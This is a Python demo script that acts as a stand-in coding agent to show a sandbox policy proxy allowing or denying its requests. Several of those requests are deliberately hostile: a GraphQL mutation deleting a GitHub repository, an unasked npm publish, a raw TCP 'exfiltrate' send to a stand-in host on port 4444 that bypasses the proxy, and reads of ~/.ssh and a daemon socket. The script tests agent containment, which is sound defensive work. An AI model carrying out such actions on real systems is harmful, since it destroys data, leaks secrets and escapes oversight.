#!/usr/bin/env python3
"""A stand-in coding agent for the demo: it does what coding agents do on
the network (read GitHub and a package registry, call a model provider,
publish a package, mutate GitHub through GraphQL) with Python's standard
library, which honours HTTPS_PROXY and SSL_CERT_FILE like most tools. Run
under `gvmctl launch`, every request is decided by the policy."""
import json
import socket
import sys
import urllib.error
import urllib.request

TASKS = [
    ("GET", "https://api.github.com/zen", None),
    ("GET", "https://registry.npmjs.org/left-pad", None),
    ("POST", "https://api.openai.com/v1/chat/completions", {"model": "gpt-4o", "messages": []}),
    ("PUT", "https://registry.npmjs.org/left-pad", {"name": "left-pad"}),
    ("POST", "https://api.github.com/graphql", {"query": "mutation { deleteRepository(input: {}) { clientMutationId } }"}),
]

failures = 0
for method, url, body in TASKS:
    data = json.dumps(body).encode() if body is not None else None
    request = urllib.request.Request(url, data=data, method=method, headers={"User-Agent": "gvm-demo-agent"})
    try:
        with urllib.request.urlopen(request, timeout=20) as reply:
            outcome = f"{reply.status} allowed"
    except urllib.error.HTTPError as e:
        try:
            detail = json.loads(e.read())
        except ValueError:
            detail = {}
        if detail.get("error") in ("denied by policy", "rate limited by policy"):
            outcome = f"{e.code} {detail['error']} (rule {detail.get('rule')})"
        elif detail.get("error") == "upstream failed":
            outcome = f"{e.code} upstream unreachable: {detail.get('reason')}"
        else:
            outcome = f"{e.code} from the upstream"
    except (urllib.error.URLError, OSError) as e:
        if "Tunnel connection failed: 403" in str(e):
            # A host nothing may reach: the proxy refuses the tunnel itself.
            outcome = "403 denied by policy (the tunnel was refused)"
        else:
            outcome = f"failed: {e}"
            failures += 1
    print(f"agent: {method:4} {url} -> {outcome}", flush=True)

# What a misbehaving agent tries next: a raw socket that ignores the proxy
# variables. In a sandbox it reaches the proxy anyway, which finds no tcp:
# rule for it and resets the connection (and records a deny).
try:
    with socket.create_connection(("198.51.100.7", 4444), timeout=10) as raw:
        raw.sendall(b"exfiltrate\n")
        got = raw.recv(1)
    outcome = "connection closed by the proxy" if not got else "answered"
except OSError as e:
    outcome = f"refused ({e.strerror or e})"
print(f"agent: raw TCP 198.51.100.7:4444, no proxy -> {outcome}", flush=True)

# And on the file system: secrets it should not see, and a change to the
# workspace, which waits in the sandbox's overlay for a human to review.
import os
for secret in ("~/.ssh", "/run/gvm/gvmd.sock"):
    path = os.path.expanduser(secret)
    try:
        found = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(1)
        outcome = "readable" if found else "empty"
    except OSError as e:
        outcome = f"refused ({e.strerror})"
    print(f"agent: read {secret} -> {outcome}", flush=True)
try:
    with open("demo-agent-was-here.txt", "w") as f:
        f.write("written by the demo agent\n")
    outcome = "written (to the overlay)"
except OSError as e:
    outcome = f"refused ({e.strerror})"
print(f"agent: write demo-agent-was-here.txt in the workspace -> {outcome}", flush=True)
sys.exit(1 if failures else 0)
